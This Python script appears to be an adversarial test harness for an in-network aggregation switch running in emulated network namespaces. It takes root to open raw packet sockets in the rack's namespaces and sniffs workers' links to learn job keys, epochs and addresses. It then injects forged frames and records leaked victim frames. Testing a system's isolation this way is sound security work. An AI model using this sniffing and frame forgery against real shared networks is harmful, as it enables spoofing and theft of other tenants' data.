"""Attacks a job on a rack from a port of its own, and knows every secret of it.

An accomplice reads the workers' links, so the forged frames carry the job's real number, epoch,
keys, addresses and the chunks that are in flight right now. Needs root: it opens sockets in the
rack's namespaces. Prints "striking", attacks for some seconds, and then one line of JSON: how many
frames it sent, and which of the victims' it was given by the switch.
"""

import argparse
import ctypes
import json
import os
import select
import socket
import time
from pathlib import Path

from support.forger import UDP_PAYLOAD, Forger, Scene
from support.frames import SWITCH_IP, Chunk, Host
from support.targets import Lease
from wiresum.p4.packet import HEADER_BYTES, UDP_PORT, Kind

ALL = 3
KEPT = 64
RENEW = 64  # frames between two looks at the victims' links


def packet_socket(namespace: str, interface: str) -> socket.socket:
    """A packet socket on an interface of a named network namespace."""
    descriptor = os.open(Path("/run/netns", namespace), os.O_RDONLY)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.setns(descriptor, 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), f"cannot enter {namespace}")
    os.close(descriptor)
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))
    made.bind((interface, ALL))
    made.setblocking(False)
    return made


def received(source: socket.socket, both: bool = False) -> list[bytes]:
    """The frames that have come in; with ``both`` those that this host has sent as well."""
    frames = []
    while True:
        try:
            data, address = source.recvfrom(1 << 16)
        except BlockingIOError:
            return frames
        if both or address[2] != socket.PACKET_OUTGOING:
            frames.append(data)


def chunk_of(data: bytes) -> Chunk | None:
    """The chunk in a frame to the switch or from it; None if it is something else."""
    if len(data) < UDP_PAYLOAD + HEADER_BYTES or data[12:14] != b"\x08\x00" or data[23] != 17:
        return None
    kind = data[UDP_PAYLOAD + 1]
    # Forgeries with other addresses pass the switch like any datagram between hosts.
    to_switch = data[30:34] == SWITCH_IP and int.from_bytes(data[36:38]) == UDP_PORT
    if kind == Kind.CONTRIBUTION and to_switch:
        return Chunk.parse(data[UDP_PAYLOAD:])
    if kind == Kind.RESULT and data[26:30] == SWITCH_IP:
        return Chunk.parse(data[UDP_PAYLOAD:])
    return None


class Spy:
    """Learns a job's secrets and addresses from its workers' links."""

    def __init__(self, links: list[socket.socket]) -> None:
        self.links = links
        self.hosts: dict[tuple[bytes, int], Host] = {}
        self.frames: list[bytes] = []
        self.latest: Chunk | None = None
        self.reply_key = 0

    def look(self) -> None:
        """Read the frames since the last call."""
        for port, link in enumerate(self.links, 1):
            for data in received(link, both=True):
                chunk = chunk_of(data)
                if chunk is None:
                    continue
                if chunk.kind == Kind.RESULT:
                    self.reply_key = chunk.key
                    continue
                if self.latest is not None and chunk.epoch > self.latest.epoch:
                    self.hosts.clear()  # a new lease
                    self.frames.clear()
                self.latest = chunk
                src_port = int.from_bytes(data[34:36])
                self.hosts[data[26:30], src_port] = Host(port, data[6:12], data[26:30], src_port)
                self.frames.append(data)
        del self.frames[:-KEPT]

    def wait(self, workers: int, limit_s: float = 60.0) -> None:
        """Until all workers have been seen."""
        deadline = time.monotonic() + limit_s
        while len(self.hosts) < workers or not self.reply_key:
            if time.monotonic() > deadline:
                raise SystemExit(f"only {len(self.hosts)} workers have sent something")
            select.select(self.links, [], [], 0.2)
            self.look()

    def lease(self, slots: int = 512) -> Lease:
        """The known part of the lease."""
        assert self.latest is not None
        chunk = self.latest
        hosts = tuple(self.hosts[key] for key in sorted(self.hosts))
        return Lease(chunk.job, chunk.epoch, chunk.key, 0, slots, hosts, self.reply_key)


def main() -> None:
    """Entry point."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--rack", required=True, help="the rack's name")
    parser.add_argument("--victims", type=int, required=True)
    parser.add_argument("--tenants", type=int, default=0, help="workers of the attacker's own job")
    parser.add_argument("--seconds", type=float, required=True, help="for how long, at least")
    parser.add_argument("--frames", type=int, required=True, help="how many, at least")
    parser.add_argument("--rate", type=int, required=True, help="frames per second, at most")
    parser.add_argument("--seed", type=int, default=1)
    asked = parser.parse_args()
    place = asked.victims  # the number of the attacker's host
    switch = f"wiresum-{asked.rack}-s1"
    spy = Spy([packet_socket(switch, f"s1-eth{n + 1}") for n in range(asked.victims)])
    own = Spy([packet_socket(switch, f"s1-eth{place + 1}")]) if asked.tenants else None
    out = packet_socket(f"wiresum-{asked.rack}-w{place}", f"w{place}-eth0")
    spy.wait(asked.victims)
    if own is not None:
        own.wait(asked.tenants)
    me = Host(place + 1, bytes([2, 0, 10, 0, 0, place + 1]), bytes([10, 0, 0, place + 1]), 40000)
    assert spy.latest is not None
    scene = Scene(len(spy.latest.lanes), spy.lease(), me, own.lease() if own else None)
    forger = Forger(scene, asked.seed)
    print("striking", flush=True)
    sent = refused = 0
    leaked: list[str] = []
    begun = time.monotonic()
    while (passed := time.monotonic() - begun) < asked.seconds or sent < asked.frames:
        if sent % RENEW == 0:
            spy.look()
            scene.victim, scene.captured = spy.lease(), list(spy.frames)
            scene.chunk = spy.latest.chunk
            leaked += [
                data.hex()
                for data in received(out)
                if data[30:34] != me.ip
                and any(
                    key.to_bytes(8) in data for key in (scene.victim.key, scene.victim.reply_key)
                )
            ]
        ahead = (sent + refused) / asked.rate - passed
        if ahead > 0:
            time.sleep(ahead)
        try:
            out.send(forger.frame())
            sent += 1
        except OSError:  # longer than the interface takes, or shorter than a frame
            refused += 1
    print(json.dumps({"sent": sent, "refused": refused, "leaked": leaked[:3]}), flush=True)


if __name__ == "__main__":
    main()
